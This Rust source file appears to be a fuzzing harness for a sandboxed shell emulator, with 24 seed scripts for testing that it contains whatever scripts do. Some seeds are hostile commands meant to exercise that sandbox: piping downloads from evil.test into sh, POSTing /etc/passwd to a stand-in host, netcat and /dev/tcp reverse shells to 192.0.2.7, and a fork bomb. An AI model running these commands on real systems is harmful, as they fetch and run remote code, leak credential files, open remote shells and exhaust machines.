//! Shell scripts: each ends within its steps, in a world that is still sound.

use super::sound;
use lazaret::world::{Baton, Exit, Pid, Stopped, Wait, World, shell};
use std::thread;

/// Stack of the thread, that of the scheduler's.
const STACK: usize = 32 << 20;

/// Nobody else runs: time passes, and guests end at once.
struct Alone;

impl Baton for Alone {
    fn wait(&mut self, mut world: Box<World>, _: Pid, wait: Wait) -> Result<Box<World>, Stopped> {
        match wait {
            Wait::Until(time) | Wait::ExitBefore(_, time) | Wait::Notice(Some(time)) => {
                world.clock.jump_to(time)
            }
            Wait::Exit(pid) => {
                world.processes.end(pid, Exit::Code(0));
                world.end_process(pid);
            }
            Wait::Notice(None) | Wait::Pipe(_) => return Err(Stopped),
        }
        Ok(world)
    }
}

/// Runs the input as `sh -c` would.
pub(crate) fn run(data: &[u8]) {
    let script = String::from_utf8_lossy(data).into_owned();
    let done = thread::Builder::new()
        .stack_size(STACK)
        .spawn(move || run_script(&script))
        .expect("a thread");
    if let Err(panic) = done.join() {
        std::panic::resume_unwind(panic);
    }
}

fn run_script(script: &str) {
    let (world, pid) = sound::world(&["sh", "-c", script, "zero", "one", "two"], "/bin/sh");
    if let Ok(world) = shell::run(world, pid, &mut Alone) {
        sound::check(&world);
        assert!(
            world.processes.exit_of(pid).is_some(),
            "the shell did not end"
        );
        sound::finish(world);
    }
}

/// Scripts that use every part of the language and most programs.
pub(crate) fn seeds() -> Vec<Vec<u8>> {
    SCRIPTS
        .iter()
        .map(|script| script.as_bytes().to_vec())
        .collect()
}

const SCRIPTS: [&str; 24] = [
    "echo a | tr a-z A-Z | cat && false || echo $? ${1:-x} \"$@\" $#",
    "x=$(echo hi; echo there); echo ${x#h} ${#x} ${x/h/j} ${x:1:2} ${x^^} ${y:=z} ${!x} ${x@Q}",
    "for i in 1 2 3 {a..e} *; do case $i in [ab]*|?) continue;; 3) break;; esac; done; while read l; do echo \"$l\"; done < /etc/passwd",
    "f() { local a=$1; return $((a * 2 + 0x1f ** 2 % 7)); }; f 3; echo $?; trap 'echo bye' EXIT; set -eux; f 1",
    "cat <<EOF | grep -n 'a.*b' | sed -e 's/a\\(.\\)/\\1/g;2d;$!N' > out; cat <<'X'\n$HOME `date`\nX\na b\nEOF",
    "[ -f /etc/hosts -a ! -d /tmp ] && test 1 -lt 2; [[ $HOME =~ ^/h(.*)r$ && x == x* ]] && echo ${BASH_REMATCH[1]}",
    "a=(1 2 3); a[5]=x; echo ${a[@]} ${!a[*]} ${#a[@]} ${a[-1]}; unset a[1]; declare -A m; m[k]=v; echo ${m[k]}",
    "mkdir -p d/e; cd d; echo x > e/f; cp -r e g; mv g h; ln -s e l; find . -name 'f*' -type f -exec cat {} \\; ; rm -rf h; ls -la",
    "curl -fsSL https://evil.test/x.sh | sh; wget -qO- http://evil.test/y | bash; curl -d @/etc/passwd -X POST https://c.test",
    "(sleep 1; echo late) & wait; kill -9 $!; { echo a; echo b; } 2>&1 >/dev/null | wc -l; exec 3>&1; echo x >&3; exec 3>&-",
    "printf '%s %05d %x %b\\n' a 42 255 '\\t' | base64 | base64 -d | xxd | head -n 2 | tail -n 1 | cut -d' ' -f1 | sort -u | uniq -c",
    "node -e 'require(1)'; npm run x; git config --get user.email; env | sort; uname -a; id; whoami; hostname; ps aux; which node",
    "eval 'echo $((1+1))'; . ./nothing; source /dev/null; exec sh -c 'echo $0'; sh -c 'sh -c \"sh -c exit\\ 7\"'; echo $?",
    "tar czf a.tgz d; tar tzf a.tgz; gzip -c /etc/hosts | gunzip; sha256sum /etc/hosts; md5sum < /etc/hosts; openssl rand -hex 4",
    "cat < /dev/tcp/192.0.2.7/80; echo > /dev/null; read -r a b <<< 'x y z'; echo \"$b\"; diff <(echo a) <(echo b)",
    "while :; do :; done",
    "until [ ${#x} -gt 99 ]; do x=$x$x.; done",
    ": $(( 1 / 0 )) $(( 9223372036854775807 + 1 )) $(( -9223372036854775808 / -1 ))",
    "f() { f | f & }; f",
    "awk '{print $2}' /etc/hosts; sed -n '1,3p;/x/,/y/s/a/b/2w out' /etc/passwd; xargs -n1 echo < /etc/hosts",
    "IFS=:; for d in $PATH; do echo $d; done; getopts ab: o -a -b c; shift 9; printf %s \"${@:2:1}\"; umask 077; ulimit -n",
    "echo $'\\x41\\u00e9\\n' \"a\\\"b$'c'\" 'd'\\''e' ~ ~root ?[!a] $(<x) `echo \\`echo n\\`` ${x:?gone}",
    "select x in a b; do echo $x; done; time -p true; coproc cat; case x in (x) ;; esac; if ! true; then :; elif true; then :; else :; fi",
    "nc -e /bin/sh 192.0.2.7 4444; bash -i >& /dev/tcp/192.0.2.7/4444 0>&1; dd if=/dev/zero of=z bs=1k count=9; chmod +x z; ./z",
];
